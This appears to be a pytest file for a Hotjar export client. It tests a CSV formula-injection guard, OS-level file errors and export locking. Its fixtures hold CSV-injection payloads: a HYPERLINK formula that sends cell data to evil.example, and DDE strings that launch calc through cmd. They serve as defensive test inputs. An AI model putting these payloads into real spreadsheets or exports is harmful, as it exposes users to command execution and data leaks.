"""Export files that cannot hurt anyone: CSV cells a spreadsheet would run are written as text
(when asked), file errors are Python's own OS errors, and two processes never resume one
export at once."""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import shutil
import subprocess
import sys
import textwrap
import time

import hotjar_client as hj
import pytest
from hotjar_client.testing import FakeHotjar
from tables_helpers import CRAFTED_SURVEY, page
from test_cli import env, no_env, run  # noqa: F401 (the CLI's fixtures)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

FORMULA_ANSWERS = {
    "4": '=HYPERLINK("http://evil.example/?"&A1,"Click")',  # long-text
    "5": "+1+cmd|' /C calc'!A0",  # short-text
    "9": "@SUM(1+1)*cmd|' /C calc'!A0",  # email
}


def formula_response(rid: int, country: str = "=1+1") -> dict:
    return {
        "id": rid,
        "created_time": "2026-01-02T03:04:05Z",
        "is_complete": True,
        "country": country,
        "device": "-2+3",
        "browser": "\t=1",
        "os": "\r=1",
        "hotjar_user_id": "'=quoted",
        "window_width": -5,
        "window_height": 768,
        "response_origin_url": "https://example.com/",
        "recording_url": None,
        "user_attributes": [{"name": "plan", "value": "=pro"}],
        "answers": [
            {"question_id": "1", "answer": "-1", "comment": None, "tags": []},
            *({"question_id": q, "answer": a, "tags": []} for q, a in FORMULA_ANSWERS.items()),
        ],
    }


def serve_formulas(fake) -> None:
    fake.fail_next(status=200, body=json.dumps(CRAFTED_SURVEY))
    fake.fail_next(status=200, body=page([formula_response(1), formula_response(2, "DE")]))


def csv_cells(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


@pytest.fixture
def fake():
    with FakeHotjar(responses_per_survey=[250, 3]) as server:
        yield server


@pytest.fixture
def client(fake):
    with fake.client(requests_per_minute=None, max_retries=0) as c:
        yield c


# --- spreadsheet formulas ------------------------------------------------------------------------


def test_the_guard_writes_every_formula_as_text_and_keeps_numbers(fake, client, tmp_path):
    serve_formulas(fake)
    plain = client.responses_table(fake.survey_ids[0]).to_pylist()
    serve_formulas(fake)
    path = tmp_path / "answers.csv"
    client.export_responses(fake.survey_ids[0], path, csv_formula_guard=True)
    header, *rows = csv_cells(path)
    assert len(rows) == 2
    for line in rows:
        for cell in line:
            numeric = cell.lstrip("-").isdigit()
            assert numeric or not cell.startswith(TRIGGERS), repr(cell)
    first = dict(zip(header, rows[0], strict=True))
    # Each guarded cell is the answer with one ' in front, nothing else changed.
    for name, value in plain[0].items():
        if isinstance(value, str) and value.lstrip("'").startswith(TRIGGERS):
            assert first[name] == "'" + value, name
    assert first["country"] == "'=1+1" and first["device"] == "'-2+3"
    assert first["hotjar_user_id"] == "''=quoted"
    assert first["window_width"] == "-5"  # a number, not a formula: unchanged
    assert json.loads(first["user_attributes"]) == {"plan": "=pro"}  # JSON starts with {
    # The guard is off by default for Python callers: the file holds the answers as given.
    serve_formulas(fake)
    exact = tmp_path / "exact.csv"
    client.export_responses(fake.survey_ids[0], exact)
    header, *rows = csv_cells(exact)
    assert dict(zip(header, rows[0], strict=True))["country"] == "=1+1"


def test_parquet_and_jsonl_ignore_the_guard(fake, client, tmp_path):
    serve_formulas(fake)
    path = tmp_path / "answers.jsonl"
    client.export_responses(fake.survey_ids[0], path, csv_formula_guard=True)
    first = json.loads(path.read_text(encoding="utf-8").splitlines()[0])
    assert first["country"] == "=1+1"


def test_the_guard_must_be_a_bool(client, tmp_path):
    with pytest.raises(TypeError, match="csv_formula_guard must be a bool"):
        client.export_responses(1, tmp_path / "x.csv", csv_formula_guard="yes")


@pytest.mark.usefixtures("env")
def test_the_cli_guards_csv_by_default_and_can_be_told_not_to(fake, capsys, tmp_path):
    for flags, country in (([], "'=1+1"), (["--no-csv-formula-guard"], "=1+1")):
        serve_formulas(fake)
        path = tmp_path / f"cli{len(flags)}.csv"
        code, _, err = run(capsys, "export", fake.survey_ids[0], "-o", str(path), *flags)
        assert code == 0, err
        header, *rows = csv_cells(path)
        assert dict(zip(header, rows[0], strict=True))["country"] == country


def test_a_resumed_export_keeps_the_partial_files_guard(fake, client, tmp_path):
    path = tmp_path / "r.csv"
    fake.fail_next(status=500, after=3)  # survey, then two pages, then a failure
    with pytest.raises(hj.ServerError):
        client.export_responses(fake.survey_ids[0], path, csv_formula_guard=True)
    with pytest.raises(hj.ConfigurationError, match="csv_formula_guard=True"):
        client.export_responses(fake.survey_ids[0], path, resume=True)
    summary = client.export_responses(fake.survey_ids[0], path, resume=True, csv_formula_guard=True)
    assert summary["responses"] == 250


# --- file errors are OS errors -------------------------------------------------------------------

EXPORT_INTO = textwrap.dedent(
    """
    import json, sys
    import hotjar_client as hj
    url, client_id, secret, site, survey, path = sys.argv[1:7]
    with hj.Client(client_id, secret, site_id=site, base_url=url) as client:
        try:
            client.export_responses(survey, path)
        except PermissionError as error:
            print(json.dumps({
                "type": type(error).__name__,
                "export_file_error": isinstance(error, hj.ExportFileError),
                "errno": error.errno,
                "filename": error.filename,
                "message": str(error),
            }))
        else:
            print(json.dumps(None))
    """
)


def _as_a_user() -> list[str]:
    """What runs the child so that folder permissions apply to it: as root, without the
    capabilities that override them."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root without setpriv: folder permissions do not apply")
    return [setpriv, "--bounding-set=-dac_override,-dac_read_search,-fowner"]


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX folder permissions")
def test_except_permission_error_catches_an_export_into_a_read_only_folder(fake, tmp_path):
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    target = folder / "r.csv"
    done = subprocess.run(
        [
            *_as_a_user(),
            sys.executable,
            "-c",
            EXPORT_INTO,
            fake.url,
            fake.client_id,
            fake.client_secret,
            fake.site_id,
            fake.survey_ids[1],
            str(target),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    caught = json.loads(done.stdout)
    assert caught is not None, "the export was written into a read-only folder"
    assert caught["type"] == "ExportPermissionError" and caught["export_file_error"]
    assert caught["errno"] == 13
    assert caught["filename"].startswith(str(folder))
    assert caught["message"].startswith("Could not create")  # the message, not "[Errno 13]"
    assert os.listdir(folder) == []


def test_file_errors_keep_errno_filename_and_pickle(fake, client, tmp_path):
    taken = tmp_path / "r.csv.lock"
    taken.mkdir()  # the lock file's name is a folder: cannot be opened as a file
    with pytest.raises(IsADirectoryError) as caught:
        client.export_responses(fake.survey_ids[1], tmp_path / "r.csv")
    error = caught.value
    assert isinstance(error, hj.ExportFileError) and isinstance(error, OSError)
    assert error.errno == 21 and error.strerror and error.filename == str(taken)
    assert str(error).startswith("Could not create the lock file")
    again = pickle.loads(pickle.dumps(error))
    assert type(again) is type(error) and str(again) == str(error)


# --- one export of a path at a time --------------------------------------------------------------

RESUME = textwrap.dedent(
    """
    import json, sys
    import hotjar_client as hj
    url, client_id, secret, site, survey, path = sys.argv[1:7]
    with hj.Client(
        client_id, secret, site_id=site, base_url=url, requests_per_minute=None
    ) as client:
        print(json.dumps(client.export_responses(survey, path, resume=True)), flush=True)
    """
)


def test_a_second_process_resuming_the_same_export_fails_fast_while_the_first_completes(
    fake, client, tmp_path
):
    survey = fake.survey_ids[0]
    path = tmp_path / "r.csv"
    fake.fail_next(status=500, after=3)
    with pytest.raises(hj.ServerError):
        client.export_responses(survey, path)
    assert (tmp_path / "r.csv.partial").exists()
    fake.latency = 0.5  # the first resumer takes a while
    served = len(fake.request_log())
    first = subprocess.Popen(
        [
            sys.executable,
            "-c",
            RESUME,
            fake.url,
            fake.client_id,
            fake.client_secret,
            fake.site_id,
            survey,
            str(path),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        # Once the first one was served a request, it holds the lock (taken before any).
        deadline = time.monotonic() + 30
        while len(fake.request_log()) == served and time.monotonic() < deadline:
            time.sleep(0.01)
        assert (tmp_path / "r.csv.lock").exists()
        started = time.monotonic()
        with pytest.raises(BlockingIOError) as busy:
            client.export_responses(survey, path, resume=True)
        assert time.monotonic() - started < 5
        assert isinstance(busy.value, hj.ExportFileError)
        assert "Another export is using" in str(busy.value)
        assert busy.value.filename == str(path)
        assert busy.value.partial is None
        assert first.poll() is None  # the first one is still at work
        out, err = first.communicate(timeout=120)
    finally:
        if first.poll() is None:
            first.kill()
    assert first.returncode == 0, err
    assert json.loads(out)["responses"] == 250
    fake.latency = 0
    ids = [row[0] for row in csv_cells(path)[1:]]
    truth = [str(r["id"]) for r in client.responses(survey)]
    assert ids == truth
    assert sorted(os.listdir(tmp_path)) == ["r.csv"]
